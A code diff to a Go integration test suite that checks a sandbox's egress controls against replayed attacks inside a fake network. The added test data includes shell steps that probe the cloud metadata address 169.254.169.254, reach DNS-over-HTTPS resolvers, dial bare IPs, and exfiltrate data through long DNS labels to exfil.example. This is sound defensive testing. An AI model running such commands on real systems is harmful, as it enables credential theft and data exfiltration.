@@ -1,6 +1,7 @@
 package integration
 
 import (
+	"context"
 	"fmt"
 	"net"
 	"net/netip"
@@ -329,7 +330,7 @@ func TestEgressReplay(t *testing.T) {
 	attackBin := airtest.BuildBinary(t, "./integration/testdata/egressattack")
 	for _, rt := range egressRuntimes() {
 		t.Run(rt, func(t *testing.T) {
-			env := newReplayEnv(t, bins, rt, attackBin)
+			env := newReplayEnv(t, bins, rt, attackBin, replayPolicy)
 			ctx := ctxFor(t, 10*time.Minute)
 			c := env.s.client()
 
@@ -347,35 +348,7 @@ func TestEgressReplay(t *testing.T) {
 			}
 			t.Run("control", control)
 			for _, a := range replayAttacks() {
-				t.Run(a.name, func(t *testing.T) {
-					env.n.ResetRequests()
-					env.n.Zone().ResetQueries()
-					env.n.RogueZone().ResetQueries()
-					// Each attack starts from the template's /etc/hosts.
-					if res := execIn(ctx, t, c, env.sb, "sh", "-c", "cp /tmp/hosts.orig /etc/hosts"); res.exitCode != 0 {
-						t.Fatalf("restore /etc/hosts: %+v", res)
-					}
-					if a.setup != nil {
-						a.setup(t, env)
-						env.n.ResetRequests()
-					}
-					for _, st := range a.steps(env) {
-						res := execIn(ctx, t, c, env.sb, "sh", "-c", st.script)
-						out := res.stdout + res.stderr
-						t.Logf("%q → exit %d: %s", st.script, res.exitCode, strings.TrimSpace(out))
-						if res.exitCode == 0 && !st.mayExit0 {
-							t.Errorf("attack step succeeded: %q\nstdout: %s\nstderr: %s", st.script, res.stdout, res.stderr)
-						}
-						for _, re := range a.forbidden {
-							if re.MatchString(out) {
-								t.Errorf("attack step %q printed %q:\n%s", st.script, re, out)
-							}
-						}
-					}
-					for _, e := range a.evidence(env) {
-						t.Errorf("attack got through: %s", e)
-					}
-				})
+				t.Run(a.name, func(t *testing.T) { runAttack(ctx, t, env, a) })
 			}
 			// The allowed names still work after the attacks (nothing
 			// above broke the sandbox's network).
@@ -414,11 +387,47 @@ func TestEgressReplay(t *testing.T) {
 	}
 }
 
+// runAttack replays a in env's sandbox: every step must fail (or may
+// succeed), print nothing forbidden, and leave no evidence in the fake
+// internet.
+func runAttack(ctx context.Context, t *testing.T, env *replayEnv, a attack) {
+	t.Helper()
+	c := env.s.client()
+	env.n.ResetRequests()
+	env.n.Zone().ResetQueries()
+	env.n.RogueZone().ResetQueries()
+	// Each attack starts from the template's /etc/hosts.
+	if res := execIn(ctx, t, c, env.sb, "sh", "-c", "cp /tmp/hosts.orig /etc/hosts"); res.exitCode != 0 {
+		t.Fatalf("restore /etc/hosts: %+v", res)
+	}
+	if a.setup != nil {
+		a.setup(t, env)
+		env.n.ResetRequests()
+	}
+	for _, st := range a.steps(env) {
+		res := execIn(ctx, t, c, env.sb, "sh", "-c", st.script)
+		out := res.stdout + res.stderr
+		t.Logf("%q → exit %d: %s", st.script, res.exitCode, strings.TrimSpace(out))
+		if res.exitCode == 0 && !st.mayExit0 {
+			t.Errorf("attack step succeeded: %q\nstdout: %s\nstderr: %s", st.script, res.stdout, res.stderr)
+		}
+		for _, re := range a.forbidden {
+			if re.MatchString(out) {
+				t.Errorf("attack step %q printed %q:\n%s", st.script, re, out)
+			}
+		}
+	}
+	for _, e := range a.evidence(env) {
+		t.Errorf("attack got through: %s", e)
+	}
+}
+
 // newReplayEnv starts the fake internet, a server in its host namespace
-// (--egress-default public, so that the sandbox's own "none" is what
-// stops the attacks), a probe listener in the host namespace, and a
-// sandbox with replayPolicy and the attack client in /tmp.
-func newReplayEnv(t *testing.T, bins binaries, rt, attackBin string) *replayEnv {
+// (--egress-default public, so that a sandbox's own "none" is what stops
+// the attacks), a probe listener in the host namespace, and a sandbox with
+// policy (nil: none set, the server's default) and the attack client in
+// /tmp.
+func newReplayEnv(t *testing.T, bins binaries, rt, attackBin string, policy map[string]any) *replayEnv {
 	t.Helper()
 	n := newFakenet(t)
 	s := newEgressServer(t, bins, rt, n, "--egress-default", "public")
@@ -451,8 +460,10 @@ func newReplayEnv(t *testing.T, bins binaries, rt, attackBin string) *replayEnv 
 	c := s.client()
 	sb := createSandbox(ctx, t, c, apiv1.CreateSandboxRequest{})
 	env.sb = model.SandboxID(sb.ID)
-	if _, err := s.apiJSON(ctx, "PUT", "/v1/sandboxes/"+sb.ID+"/egress", replayPolicy, nil); err != nil {
-		t.Fatalf("set the sandbox's egress policy: %v", err)
+	if policy != nil {
+		if _, err := s.apiJSON(ctx, "PUT", "/v1/sandboxes/"+sb.ID+"/egress", policy, nil); err != nil {
+			t.Fatalf("set the sandbox's egress policy: %v", err)
+		}
 	}
 	f, err := os.Open(attackBin)
 	if err != nil {
@@ -490,6 +501,93 @@ func TestEgressRunReachesAllowedName(t *testing.T) {
 			}
 			if reqs := n.RequestsTo(allowedAddr); len(reqs) != 1 || reqs[0].From.Addr() != fakenet.HostAddr.Addr() {
 				t.Errorf("requests the fake internet saw: %+v", reqs)
+			}
+		})
+	}
+}
+
+// publicAttacks are what the "public" default must still stop: private and
+// metadata answers, bare addresses, DNS-over-HTTPS resolvers by name, and
+// bulk exfiltration through long labels.
+func publicAttacks() []attack {
+	return []attack{
+		{
+			name: "doh-resolver",
+			steps: func(*replayEnv) []step {
+				return []step{
+					{script: "/tmp/egressattack tls dns.google:443 dns.google dns.google"},
+					{script: wget + " http://cloudflare-dns.com/dns-query"},
+					{script: "nslookup dns.google >/dev/null; /tmp/egressattack tls 192.0.2.11:443 dns.google dns.google"},
+				}
+			},
+			forbidden: []*regexp.Regexp{regexp.MustCompile(`fakenet proto=`)},
+			evidence: func(e *replayEnv) []string {
+				out := append(e.requestsForHost("dns.google"), e.requestsForHost("cloudflare-dns.com")...)
+				return append(out, e.queriesUnder("dns.google")...)
+			},
+		},
+		{
+			name: "private-and-metadata-answers",
+			steps: func(*replayEnv) []step {
+				return []step{
+					{script: wget + " http://private.example/"},
+					{script: wget + " http://metadata.example/latest/meta-data/"},
+					{script: wget + " http://169.254.169.254/latest/meta-data/"},
+				}
+			},
+			forbidden: []*regexp.Regexp{regexp.MustCompile(`fakenet proto=`)},
+			evidence:  func(e *replayEnv) []string { return e.requestsTo(privateAddr, metadata) },
+		},
+		{
+			name: "bare-address",
+			steps: func(*replayEnv) []step {
+				return []step{
+					{script: wget + " http://203.0.113.10/"},
+					{script: "/tmp/egressattack dial 203.0.113.10:22"},
+				}
+			},
+			forbidden: []*regexp.Regexp{regexp.MustCompile(`fakenet proto=`)},
+			evidence:  func(e *replayEnv) []string { return e.requestsTo(echoAddr) },
+		},
+		{
+			name: "long-label-exfiltration",
+			steps: func(*replayEnv) []step {
+				long := "mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpjqwey3emvtgo2djnfva"
+				return []step{
+					{script: "nslookup " + long + ".exfil.example", mayExit0: true},
+					{script: "/tmp/egressattack dns 198.51.100.53:53 " + long + ".exfil.example tcp", mayExit0: true},
+				}
+			},
+			evidence: func(e *replayEnv) []string {
+				var out []string
+				for _, q := range append(e.n.Zone().QueriesUnder("exfil.example"), e.n.RogueZone().QueriesUnder("exfil.example")...) {
+					if label, _, _ := strings.Cut(q.Name, "."); len(label) > 40 {
+						out = append(out, "long label reached a fake DNS server: "+q.Name)
+					}
+				}
+				return out
+			},
+		},
+	}
+}
+
+// TestEgressPublicDefault: a sandbox on the server's "public" default
+// reaches public names but none of what that default still refuses.
+func TestEgressPublicDefault(t *testing.T) {
+	bins := build(t)
+	attackBin := airtest.BuildBinary(t, "./integration/testdata/egressattack")
+	for _, rt := range egressRuntimes() {
+		t.Run(rt, func(t *testing.T) {
+			env := newReplayEnv(t, bins, rt, attackBin, nil)
+			env.n.Zone().Set("dns.google", fakenet.Record{Addrs: []netip.Addr{rebindAddr}})
+			env.n.Zone().Set("cloudflare-dns.com", fakenet.Record{Addrs: []netip.Addr{rebindAddr}})
+			ctx := ctxFor(t, 5*time.Minute)
+			res := execIn(ctx, t, env.s.client(), env.sb, "sh", "-c", wget+" http://allowed.example/")
+			if want := "fakenet proto=http addr=192.0.2.10:80 host=allowed.example"; res.exitCode != 0 || !strings.Contains(res.stdout, want) {
+				t.Errorf("control: %+v, want %q", res, want)
+			}
+			for _, a := range publicAttacks() {
+				t.Run(a.name, func(t *testing.T) { runAttack(ctx, t, env, a) })
 			}
 		})
 	}
